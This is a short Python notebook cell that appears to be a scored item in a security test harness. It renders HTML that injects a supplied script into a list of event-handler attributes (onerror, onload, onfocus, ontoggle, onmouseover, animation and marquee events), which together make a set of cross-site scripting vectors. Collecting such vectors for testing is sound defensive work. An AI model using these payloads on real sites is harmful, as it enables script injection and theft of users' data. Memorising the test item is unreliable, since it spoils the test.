# /// attack
# tries = "Displays elements that run a script when they load, fail, appear or are pointed at."
# points = 10
# honest = true
# shows = ["page"]
# ///
# %% before count
from IPython.display import HTML, display

run = bait["script"]
display(
    HTML(f'''
<img src="nowhere:" onerror="{run}"><svg onload="{run}"></svg><body onload="{run}"><input autofocus onfocus="{run}">
<details open ontoggle="{run}">x</details><p onmouseover="{run}" onpointerenter="{run}">x</p>
<style>@keyframes k {{}}</style><p style="animation-name:k" onanimationend="{run}" onanimationstart="{run}">x</p>
<video><source onerror="{run}"></video><marquee onstart="{run}">x</marquee>
''')
)
